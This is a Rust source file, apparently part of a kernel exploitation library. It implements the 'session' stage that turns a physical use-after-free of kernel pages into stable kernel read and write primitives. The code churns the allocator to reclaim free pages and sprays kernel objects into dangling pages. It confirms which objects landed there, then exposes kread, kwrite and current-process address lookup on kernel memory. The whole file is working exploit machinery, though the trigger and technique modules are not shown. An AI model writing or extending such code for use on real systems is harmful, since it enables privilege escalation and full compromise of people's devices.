//! The krkw session façade.
//!
//! A [`Session`] bundles everything one krkw attempt needs: the puaf page
//! set, the copy region and duplicator for allocator churn, a capability
//! descriptor for the running kernel build, and one technique per
//! direction. [`SessionBuilder`] validates the combination up front;
//! [`Session::run`] then drives the phases in order and returns a
//! serializable report. Afterwards [`Session::kread`] and
//! [`Session::kwrite`] are stable kernel access primitives until
//! [`Session::release`] tears the confirmed objects down.

use std::fmt;
use std::io;
use std::time::Instant;

use indicatif::MultiProgress;
use log::{info, warn};
use serde::Serialize;
use thiserror::Error;

use crate::acquire::{self, AcquireStats, RegionDuplicator};
use crate::caps::Capabilities;
use crate::channel::Channel;
use crate::puaf::{CopyRegion, PuafPages};
use crate::select::{self, ConfigError};
use crate::technique::{
    ChannelRole, KreadTechnique, KwriteTechnique, Technique, TechniqueError,
};
use crate::util::{CHURN_CAP_PAGES, GRAB_GOAL_DIVISOR, PAGE_SIZE, SEARCH_STRIDE, SEARCH_WINDOW};

/// Tunable engine constants. The defaults are the tuned values; override
/// individual fields for substrates with different reclaim behavior.
#[derive(Debug, Clone, Serialize)]
pub struct SessionConfig {
    /// Denominator of the acquisition goal: grab `puaf_pages / divisor`
    /// free pages before spraying.
    pub grab_goal_divisor: usize,
    /// Hard ceiling on pages churned while acquiring free pages.
    pub churn_cap: u64,
    /// Bytes scanned at the head of each puaf page, at 8-byte strides.
    pub search_window: usize,
}

impl Default for SessionConfig {
    fn default() -> Self {
        Self {
            grab_goal_divisor: GRAB_GOAL_DIVISOR,
            churn_cap: CHURN_CAP_PAGES,
            search_window: SEARCH_WINDOW,
        }
    }
}

/// Errors raised while a session runs.
#[derive(Debug, Error)]
#[allow(missing_docs)]
pub enum RunError {
    #[error("{role} spray reached the id ceiling of {maximum_id} without landing an object in a puaf page")]
    SprayExhausted { role: ChannelRole, maximum_id: u64 },
    #[error("region duplication failed")]
    Duplicate(#[source] io::Error),
    #[error(transparent)]
    Technique(#[from] TechniqueError),
}

/// Per-channel section of the run report.
#[derive(Debug, Serialize)]
pub struct ChannelReport {
    /// Technique family name.
    pub technique: String,
    /// Id of the confirmed object.
    pub object_id: u64,
    /// User address at which the confirmed object was spotted.
    pub object_uaddr: usize,
    /// Objects allocated before the spray ended.
    pub allocated_id: u64,
    /// Allocation ceiling of the technique.
    pub maximum_id: u64,
    /// Kernel address of the current process, if resolved.
    pub current_proc: Option<u64>,
}

impl ChannelReport {
    fn of(channel: &Channel) -> Self {
        let found = channel
            .found()
            .expect("a channel report requires a confirmed object");
        Self {
            technique: channel.technique_name().to_string(),
            object_id: found.id,
            object_uaddr: found.uaddr,
            allocated_id: channel.allocated_id(),
            maximum_id: channel.maximum_id(),
            current_proc: channel.current_proc(),
        }
    }
}

/// Summary of a completed run, serializable for downstream tooling.
#[derive(Debug, Serialize)]
pub struct RunReport {
    /// Timestamp of the run.
    pub date: String,
    /// Kernel build the capabilities were selected for.
    pub build: String,
    /// Free-page acquisition outcome.
    pub acquire: AcquireStats,
    /// Milliseconds spent acquiring free pages.
    pub acquire_ms: u128,
    /// Milliseconds spent spraying the read channel.
    pub kread_spray_ms: u128,
    /// Milliseconds spent spraying the write channel.
    pub kwrite_spray_ms: u128,
    /// Read channel outcome.
    pub kread: ChannelReport,
    /// Write channel outcome.
    pub kwrite: ChannelReport,
}

/// Collects session components and validates them into a [`Session`].
#[derive(Default)]
pub struct SessionBuilder {
    kread: Option<(KreadTechnique, Box<dyn Technique>)>,
    kwrite: Option<(KwriteTechnique, Box<dyn Technique>)>,
    caps: Option<Capabilities>,
    puaf: Option<PuafPages>,
    copy: Option<CopyRegion>,
    duplicator: Option<Box<dyn RegionDuplicator>>,
    config: SessionConfig,
    progress: Option<MultiProgress>,
}

impl SessionBuilder {
    /// Selects the read-channel technique.
    pub fn kread_technique(mut self, family: KreadTechnique, technique: Box<dyn Technique>) -> Self {
        self.kread = Some((family, technique));
        self
    }

    /// Selects the write-channel technique.
    pub fn kwrite_technique(
        mut self,
        family: KwriteTechnique,
        technique: Box<dyn Technique>,
    ) -> Self {
        self.kwrite = Some((family, technique));
        self
    }

    /// Sets the capability descriptor of the running kernel build.
    pub fn capabilities(mut self, caps: Capabilities) -> Self {
        self.caps = Some(caps);
        self
    }

    /// Sets the dangling page set to scan.
    pub fn puaf_pages(mut self, puaf: PuafPages) -> Self {
        self.puaf = Some(puaf);
        self
    }

    /// Sets the buffer pair duplicated to churn the allocator.
    pub fn copy_region(mut self, copy: CopyRegion) -> Self {
        self.copy = Some(copy);
        self
    }

    /// Sets the duplication channel used during acquisition.
    pub fn duplicator(mut self, duplicator: Box<dyn RegionDuplicator>) -> Self {
        self.duplicator = Some(duplicator);
        self
    }

    /// Overrides the tuned engine constants.
    pub fn config(mut self, config: SessionConfig) -> Self {
        self.config = config;
        self
    }

    /// Attaches a progress bar group for the long-running phases.
    pub fn progress(mut self, progress: MultiProgress) -> Self {
        self.progress = Some(progress);
        self
    }

    /// Validates the collected components and initializes both channels.
    ///
    /// # Errors
    ///
    /// Returns a [`ConfigError`] if a component is missing, the technique
    /// pairing is not supported by the capabilities, or a technique fails
    /// to initialize.
    ///
    /// # Panics
    ///
    /// Panics if the configured search window is zero, larger than a page,
    /// or not a multiple of the scan stride.
    pub fn build(self) -> Result<Session, ConfigError> {
        let (kread_family, kread_technique) = self.kread.ok_or(ConfigError::NoKreadTechnique)?;
        let (kwrite_family, kwrite_technique) = self.kwrite.ok_or(ConfigError::NoKwriteTechnique)?;
        let caps = self.caps.ok_or(ConfigError::NoCapabilities)?;
        let puaf = self.puaf.ok_or(ConfigError::NoPuafPages)?;
        let copy = self.copy.ok_or(ConfigError::NoCopyRegion)?;
        let duplicator = self.duplicator.ok_or(ConfigError::NoDuplicator)?;
        select::validate(kread_family, kwrite_family, &caps)?;
        assert!(
            self.config.search_window > 0
                && self.config.search_window <= PAGE_SIZE
                && self.config.search_window % SEARCH_STRIDE == 0,
            "search window must be a nonzero multiple of {} no larger than a page",
            SEARCH_STRIDE
        );
        let kread = Channel::new(ChannelRole::Read, kread_technique)?;
        let kwrite = Channel::new(ChannelRole::Write, kwrite_technique)?;
        info!(
            "session over {} puaf pages on build {}: kread = {}, kwrite = {}",
            puaf.len(),
            caps.build,
            kread.technique_name(),
            kwrite.technique_name()
        );
        Ok(Session {
            puaf,
            copy,
            duplicator,
            caps,
            config: self.config,
            progress: self.progress,
            kread,
            kwrite,
            ready: false,
        })
    }
}

/// One krkw attempt over an established puaf condition.
///
/// Use [`Session::builder()`] to assemble one from its components.
pub struct Session {
    puaf: PuafPages,
    copy: CopyRegion,
    duplicator: Box<dyn RegionDuplicator>,
    caps: Capabilities,
    config: SessionConfig,
    progress: Option<MultiProgress>,
    kread: Channel,
    kwrite: Channel,
    ready: bool,
}

impl fmt::Debug for Session {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Session")
            .field("caps", &self.caps)
            .field("config", &self.config)
            .field("ready", &self.ready)
            .finish_non_exhaustive()
    }
}

impl Session {
    /// Creates a new session builder.
    pub fn builder() -> SessionBuilder {
        SessionBuilder::default()
    }

    /// Builds the krkw primitives: acquire free pages, spray both channels,
    /// then sweep the unconfirmed objects away.
    ///
    /// Both sprays run before either sweep; releasing the read spray early
    /// would churn the allocator underneath the write spray. A missed
    /// acquisition goal only lowers the odds of a quick spray and is
    /// reported, not fatal.
    ///
    /// # Errors
    ///
    /// Returns [`RunError::SprayExhausted`] if a channel reaches its id
    /// ceiling without a match (the puaf pages are dumped to the log),
    /// [`RunError::Duplicate`] if the duplicator fails, and
    /// [`RunError::Technique`] if an allocation fails.
    ///
    /// # Panics
    ///
    /// Panics when called a second time.
    pub fn run(&mut self) -> Result<RunReport, RunError> {
        assert!(!self.ready, "run may only be called once per session");
        let start = Instant::now();
        let acquire = acquire::grab_free_pages(
            self.duplicator.as_mut(),
            &self.copy,
            &self.puaf,
            &self.config,
            self.progress.as_ref(),
        )
        .map_err(RunError::Duplicate)?;
        if !acquire.goal_met {
            warn!(
                "continuing with {}/{} grabbed free pages, spraying will be less reliable",
                acquire.grabbed, acquire.goal
            );
        }
        let acquire_ms = start.elapsed().as_millis();

        let spray_start = Instant::now();
        self.kread.spray(&self.puaf, &self.config, self.progress.as_ref())?;
        let kread_spray_ms = spray_start.elapsed().as_millis();
        let spray_start = Instant::now();
        self.kwrite.spray(&self.puaf, &self.config, self.progress.as_ref())?;
        let kwrite_spray_ms = spray_start.elapsed().as_millis();

        self.kread.sweep(self.progress.as_ref());
        self.kwrite.sweep(self.progress.as_ref());
        self.ready = true;
        info!("krkw primitives ready");
        Ok(RunReport {
            date: chrono::Local::now().to_rfc3339(),
            build: self.caps.build.clone(),
            acquire,
            acquire_ms,
            kread_spray_ms,
            kwrite_spray_ms,
            kread: ChannelReport::of(&self.kread),
            kwrite: ChannelReport::of(&self.kwrite),
        })
    }

    /// Reads `data.len()` bytes of kernel memory at `kaddr`.
    ///
    /// # Panics
    ///
    /// Panics if [`Session::run`] has not completed successfully.
    pub fn kread(&mut self, kaddr: u64, data: &mut [u8]) -> Result<(), TechniqueError> {
        assert!(self.ready, "kread requires a completed run");
        self.kread.kread(kaddr, data)
    }

    /// Writes `data` to kernel memory at `kaddr`.
    ///
    /// # Panics
    ///
    /// Panics if [`Session::run`] has not completed successfully.
    pub fn kwrite(&mut self, data: &[u8], kaddr: u64) -> Result<(), TechniqueError> {
        assert!(self.ready, "kwrite requires a completed run");
        self.kwrite.kwrite(data, kaddr)
    }

    /// Reads one little-endian `u64` of kernel memory at `kaddr`.
    ///
    /// # Panics
    ///
    /// Panics if [`Session::run`] has not completed successfully.
    pub fn kread_u64(&mut self, kaddr: u64) -> Result<u64, TechniqueError> {
        let mut data = [0u8; 8];
        self.kread(kaddr, &mut data)?;
        Ok(u64::from_le_bytes(data))
    }

    /// Writes one little-endian `u64` of kernel memory at `kaddr`.
    ///
    /// # Panics
    ///
    /// Panics if [`Session::run`] has not completed successfully.
    pub fn kwrite_u64(&mut self, kaddr: u64, value: u64) -> Result<(), TechniqueError> {
        self.kwrite(&value.to_le_bytes(), kaddr)
    }

    /// Kernel address of the current process, preferring the read channel's
    /// resolution.
    pub fn current_proc(&self) -> Option<u64> {
        self.kread.current_proc().or(self.kwrite.current_proc())
    }

    /// The read channel.
    pub fn kread_channel(&self) -> &Channel {
        &self.kread
    }

    /// The write channel.
    pub fn kwrite_channel(&self) -> &Channel {
        &self.kwrite
    }

    /// The engine constants this session runs with.
    pub fn config(&self) -> &SessionConfig {
        &self.config
    }

    /// Releases both channels' remaining kernel objects and consumes the
    /// session. The kread and kwrite primitives are gone afterwards.
    pub fn release(mut self) {
        self.kread.free();
        self.kwrite.free();
        info!("released krkw session");
    }
}
